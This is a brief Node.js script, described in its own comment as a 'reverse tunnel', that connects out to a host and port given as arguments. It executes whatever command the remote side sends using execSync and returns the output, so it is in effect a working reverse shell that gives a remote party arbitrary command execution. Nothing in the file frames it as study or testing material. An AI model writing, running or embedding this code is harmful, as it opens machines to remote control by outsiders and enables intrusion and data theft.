// Open a reverse tunnel: connect out and hand the other side a shell. tunnel HOST PORT
const [host, port] = process.argv.slice(2);
setTimeout(() => process.exit(1), 5000);
const link = require("net").connect(Number(port), host, () => link.write("TUNNEL\n"));
link.on("error", () => process.exit(1));
link.once("data", (command) => {
  link.end(require("child_process").execSync(String(command)), () => process.exit(0));
});
